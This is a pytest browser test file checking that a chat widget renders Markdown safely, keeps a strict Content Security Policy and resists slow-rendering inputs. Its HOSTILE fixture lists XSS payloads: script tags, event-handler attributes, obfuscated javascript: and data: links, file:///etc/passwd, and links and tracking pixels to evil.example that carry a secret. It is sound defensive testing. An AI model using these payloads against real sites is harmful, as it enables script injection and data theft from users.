"""The widget in a browser: Markdown, and what must never come in with it."""

from __future__ import annotations

import time

import pytest

STRICT = (
    "default-src 'none'; script-src {0}; connect-src {0}; img-src data:; base-uri 'none'; form-action 'none'; "
    "require-trusted-types-for 'script'; trusted-types 'none'"
)


def test_a_strict_content_security_policy_is_kept(site, answer):
    watch = "addEventListener('securitypolicyviolation', (e) => (window.broken ||= []).push(e.violatedDirective))"
    made = site.browser.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument", {"source": watch})
    call = {"id": "k1", "tool": "cancel_order", "arguments": {"order": "1"}, "reason": "it acts"}
    try:
        site.visit(csp=STRICT.format(site.service)).open().ask("Abroad?", {"approval": call}, *answer, wait=False)
        site.press(".approval .main")
        site.press(".rating button")
        site.type(".comment textarea", "x" * 90)
        site.press("button.cite")
        site.find("mark")
        assert site.js("return window.broken ?? []") == []
        # The policy does hold here: what it forbids is refused.
        site.js("const s = document.createElement('style'); s.textContent = 'p{}'; document.head.append(s)")
        site.until("window.broken?.length === 1")
    finally:
        site.cdp("Page.removeScriptToEvaluateOnNewDocument", **made)


HOSTILE = r"""
<script>window.owned = 1</script>

<img src=x onerror="window.owned = 1"> <svg onload="window.owned = 1"><iframe srcdoc="<script>parent.owned=1</script>">

[one](javascript:window.owned=1) [two](JaVaScRiPt:window.owned=1)

[three](java&#x0a;script:alert(1)) [f](&#106;avascript:1)

[data](data:text/html,<script>window.owned=1</script>) [blob](blob:https://x/y)

[file](file:///etc/passwd) [vb](vbscript:x)

[elsewhere](https://evil.example/?q=secret) ![pixel](https://evil.example/p.png?q=secret)

![js](javascript:window.owned=1)

[user](https://help.acme.example@evil.example/) [user](https://help.acme.example:pw@help.acme.example/)

[sub](https://evil.example/help.acme.example) [suffix](https://xhelp.acme.example/)

[bare](//evil.example/x) [rel](/admin)

https://evil.example/bare <https://evil.example/angle> <javascript:window.owned=1>

<a href="javascript:window.owned=1">x</a>

[quote](https://help.acme.example/"onmouseover="window.owned=1) [x]("><img src=x onerror=window.owned=1>)

[![inner](https://evil.example/i.png)](https://evil.example/)

| a | b |
|---|---|
| <img src=x onerror=window.owned=1> | [x](javascript:window.owned=1) |

- <b onclick="window.owned=1">bold</b>
> <style>*{display:none}</style> <link rel=stylesheet href=//evil.example> <base href=//evil.example>

```html
<script>window.owned = 1</script>
```
"""


def test_hostile_markdown_stays_text(site):
    site.visit().open().ask("x", HOSTILE, "\n\n[good](https://help.acme.example/a?b=c#d) **end**")
    text = site.find(".turn .text")
    assert site.text(".turn strong") == "end" and "<script>window.owned = 1</script>" in text.text
    found = "[...root.querySelectorAll('.text *')]"
    names = set(site.js(f"return {found}.map((node) => node.localName)"))
    assert not names & {"script", "img", "svg", "iframe", "style", "link", "base", "b", "button", "form", "object"}
    attributes = set(site.js(f"return {found}.flatMap((node) => node.getAttributeNames())"))
    assert attributes <= {"href", "rel", "target", "class", "tabindex", "dir", "role", "scope"}
    links = site.js("return [...root.querySelectorAll('.text a')].map((a) => a.href)")
    assert links[-1] == "https://help.acme.example/a?b=c#d"
    assert {link.split("/")[2] for link in links} == {"help.acme.example"}
    assert site.js(
        "return [...root.querySelectorAll('.text a')].every((a) => a.rel.includes('noopener') && a.target === '_blank')"
    )
    assert site.js("return window.owned") is None
    assert "elsewhere (https://evil.example/?q=secret)" in text.text


def test_images_are_shown_from_listed_hosts_only(site):
    site.visit().open().ask("x", "![a](https://img.acme-cdn.example/a.png) ![b](https://evil.example/b.png)")
    images = site.js("return [...root.querySelectorAll('.text img')].map((i) => [i.src, i.alt, i.referrerPolicy])")
    assert images == [["https://img.acme-cdn.example/a.png", "a", "no-referrer"]]
    assert site.text(".turn .text").strip() == "b"


MARKDOWN = """# Title

Some **bold**, *soft*, ***both***, ~~gone~~, `code *x*`, snake_case_name, 2 * 3 * 4, \\*plain\\*.
Second line.

1. one
2. two
   - inner **x**
   - more

3. three

> said

```python
def f():
    return "*"
```

| A | B |
|---|--:|
| 1 | `2` |

---
* last [link](https://help.acme.example)
"""


def test_markdown_becomes_elements(site):
    pieces = [MARKDOWN[at : at + 7] for at in range(0, len(MARKDOWN), 7)]
    site.visit().open().ask("x", *pieces)
    shape = """
        const show = (node) => node.nodeType === 3 ? node.data
            : node.className === 'spoken' ? '' : `<${node.localName}>${[...node.childNodes].map(show).join('')}</>`;
        return [...root.querySelector('.turn .text').childNodes].map(show);
    """
    assert site.js(shape) == [
        "<p>Title</>",
        "<p>Some <strong>bold</>, <em>soft</>, <strong><em>both</></>, <del>gone</>, <code>code *x*</>, "
        "snake_case_name, 2 * 3 * 4, *plain*.<br></>Second line.</>",
        "<ol><li>one</><li>two<ul><li>inner <strong>x</></><li>more</></></><li>three</></>",
        "<blockquote><p>said</></>",
        '<pre><code>def f():\n    return "*"</></>',
        "<div><table><thead><tr><th>A</><th>B</></></><tbody><tr><td>1</><td><code>2</></></></></></>",
        "<hr></>",
        "<ul><li>last <a>link</></></>",
    ]
    assert site.js("return root.querySelector('.text [role=heading]').ariaLevel") == "3"


@pytest.mark.parametrize(
    "text", ["*a " * 4000, "[" * 8000, "`" * 3999 + " `" * 2000, "> " * 3000, "_" * 9000, "- " * 3000, "http://" * 1500]
)
def test_no_text_holds_the_page_up(site, text):
    began = time.monotonic()
    site.visit().open().ask("x", text)
    assert site.count(".rating") == 1 and time.monotonic() - began < 6
